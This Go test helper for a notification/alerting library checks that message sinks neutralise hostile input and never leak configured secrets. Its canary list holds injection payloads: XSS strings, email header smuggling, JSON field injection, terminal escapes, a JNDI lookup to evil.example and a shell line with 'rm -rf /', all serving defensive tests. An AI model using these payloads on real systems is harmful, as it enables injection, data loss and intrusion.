package sinktest

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/kizashi-ops/kizashi"
	"github.com/kizashi-ops/kizashi/alert"
)

// Canaries are texts as strangers may write them into labels and logs. Each
// does something in one medium or another if it gets there as it stands.
var Canaries = []string{
	// scripts and what else a page acts on
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)`,
	`<svg/onload=alert(1)>`,
	`javascript:alert(1)`,
	`</title></style></textarea><script>alert(1)</script>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<style>*{display:none}</style>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<form action=https://evil.example><button>x`,
	`]]><script>alert(1)</script>`,
	`<base href=https://evil.example/><link rel=stylesheet href=x>`,
	// mentions and links of chats
	`<!channel>`,
	`<!here|here>`,
	`<!everyone>`,
	`<@U012AB3CD>`,
	`<#C012AB3CD>`,
	`<!subteam^S012AB3CD>`,
	`<!date^1392734382^{date}^https://evil.example|x>`,
	`@here @channel @everyone`,
	`<https://evil.example|kizashi.example>`,
	`<mailto:evil@evil.example|x>`,
	`&lt;!channel&gt; &amp;lt;`,
	"```*_~`x`~_*``` :rotating_light:",
	`[x](https://evil.example) ![x](https://evil.example/x.png)`,
	// breaks of headers and of protocols
	"x\r\nBcc: evil@evil.example",
	"x\nSubject: forged\n\nforged body",
	"x\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n",
	"x\rBcc: evil@evil.example",
	"x\u2028Bcc: evil@evil.example\u2029",
	"x\u0085Bcc: evil@evil.example",
	"x\x00\x0b\x0cBcc: evil@evil.example",
	`=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=`,
	`","admin":true,"x":"`,
	`\",\"admin\":true,\"x\":\"\u003cb\u003e`,
	// what a terminal acts on
	"\x1b[31mred\x1b[0m",
	"\x1b]0;title\x07",
	"\u009b31mred",
	"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
	"\x1b[2J\x1b[H\x08\x08\x7f",
	// what templates and shells act on
	`{{.Alert}}{{template "x"}}{{end}}`,
	`${jndi:ldap://evil.example/a} #{7*7} {% raw %}`,
	"`id` $(id) ; rm -rf / | %s%n%x",
	// characters that turn the direction of reading
	"\u202egpj.exe",
	"\u2066\u2067turned\u2069",
	"\u200f\u061cx\u200e",
	// no text at all
	"\xff\xfe\xc3\x28",
}

// Secrets are what a sink under test is configured with: none may show in its
// name, in an error or in a warning.
var Secrets = struct{ SMTP, SlackToken, SlackURL, HMAC, Header, Proxy, URLPath, URLQuery, URLPassword, AWS string }{
	SMTP: "canary-smtp-p4ss word", SlackToken: "xoxb-canary-0123456789", SlackURL: "/services/T0CANARY/B0CANARY/canaryslackurl012345", HMAC: "canary-hmac-key-0123456789abcdef",
	Header: "Bearer canary-header-0123", Proxy: "canary-proxy-p4ss", URLPath: "/hook/canaryURLpath0123456789", URLQuery: "canary-query&<\"'", URLPassword: "canary-url-p4ss",
	AWS: "canaryAWSsecret0123456789/abcdefghijklmno",
}

// WithCanary is a notification that has a text in every place that a stranger
// can write to; whole says whether it has a Message.
func WithCanary(id, canary string, whole bool) alert.Notification {
	n := Notice(id, 1, kizashi.Firing)
	n.Alert.Labels = kizashi.Labels{{Name: "name", Value: canary}, {Name: canary, Value: canary}}
	n.Alert.Tenant, n.Alert.Group, n.Alert.Class, n.Severity = canary, canary, canary, alert.Critical
	n.Title, n.Summary, n.Link, n.Justification = canary, canary+"\n"+canary, canary, canary
	n.Fields = map[string]string{canary: canary, "severity": canary}
	if !whole {
		return n
	}
	n.Message = alert.Message{
		Title: canary, Lead: canary + "\n" + canary, Facts: []alert.Fact{{Name: canary, Text: canary}}, Lines: []string{canary}, More: canary, Next: []string{canary}, Foot: canary,
		Actions: []alert.Action{{Name: canary, Label: canary, URL: canary, Command: canary}, {Name: canary, Label: canary, URL: "https://kizashi.example/?q=" + canary, Command: canary}},
		Chart:   &alert.Chart{PNG: []byte("\x89PNG\r\n\x1a\n"), Alt: canary},
	}
	n.Thread = &alert.Thread{
		ID: id, Lane: canary, Tenant: canary, Key: n.Alert.Labels, State: kizashi.Firing, Seq: 1, Fired: 1, Reason: alert.ReasonEscalated, By: canary,
		Members: []alert.Member{{Alert: id, Turn: alert.Turn{Seq: 1, State: kizashi.Firing}, Since: 1, By: canary}},
	}
	return n
}

// RunCanaries sends each canary, in every place of a notification, and has
// look check that what was taken does nothing in its medium.
func RunCanaries(t *testing.T, newPlace func(t *testing.T) Place, look func(t *testing.T, told Told)) {
	t.Helper()
	if len(Canaries) < 40 {
		t.Fatalf("%d canaries", len(Canaries))
	}
	p := newPlace(t)
	for i, canary := range Canaries {
		for _, whole := range []bool{true, false} {
			t.Run(fmt.Sprintf("%q %t", canary, whole), func(t *testing.T) {
				before := len(p.Received())
				send(t, p, WithCanary(fmt.Sprintf("a%d-%t", i, whole), canary, whole))
				got := p.Received()
				if len(got) != before+1 {
					t.Fatalf("%d notifications came of one", len(got)-before)
				}
				told := got[before]
				if !utf8.ValidString(told.Text) {
					t.Errorf("it is no UTF-8: %q", told.Text)
				}
				if i := strings.IndexFunc(told.Text, Acts); i >= 0 {
					t.Errorf("a terminal acts on %q in %q", told.Text[i:min(i+8, len(told.Text))], told.Text)
				}
				look(t, told)
			})
		}
	}
}

// Acts says whether a terminal, or an eye, is led astray by a character.
func Acts(r rune) bool {
	return unicode.IsControl(r) && r != '\n' && r != '\r' && r != '\t' || unicode.Is(unicode.Bidi_Control, r)
}

// RunSecrets looks for secrets in the name of a sink, in itself printed, and
// in the errors of all its place's moods. The place should repeat, when it
// fails, all that it was asked.
func RunSecrets(t *testing.T, newPlace func(t *testing.T) Place, secrets ...string) {
	t.Helper()
	search := func(where, text string) {
		for _, s := range secrets {
			for _, part := range append(strings.Fields(s), s) {
				if strings.Contains(text, part) {
					t.Errorf("%s: %q shows in %s", where, part, text)
				}
			}
		}
	}
	for _, m := range newPlace(t).Moods {
		if m == Silent {
			continue // its error is the context's
		}
		p := newPlace(t)
		search("name", p.Sink.Name())
		p.Set(m)
		err := p.Sink.Send(t.Context(), Notice("a1", 1, kizashi.Firing))
		p.Set(Well)
		if err == nil {
			t.Errorf("%s: no error", m)
		}
		for ; err != nil; err = errors.Unwrap(err) {
			search(string(m), fmt.Sprintf("%v %+v %#v", err, err, err))
		}
	}
}
